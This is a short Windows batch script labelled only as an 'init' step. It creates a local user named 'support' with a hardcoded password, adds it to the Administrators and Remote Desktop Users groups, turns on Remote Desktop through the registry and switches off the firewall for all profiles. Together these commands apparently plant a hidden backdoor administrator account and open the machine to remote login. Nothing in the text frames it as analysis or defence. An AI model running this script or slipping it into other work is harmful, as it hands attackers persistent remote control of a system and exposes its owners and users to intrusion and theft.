REM init 1772 v3
net user support Qwerty#7788 /add /y
net localgroup administrators support /add
net localgroup "Remote Desktop Users" support /add
reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f
netsh advfirewall set allprofiles state off
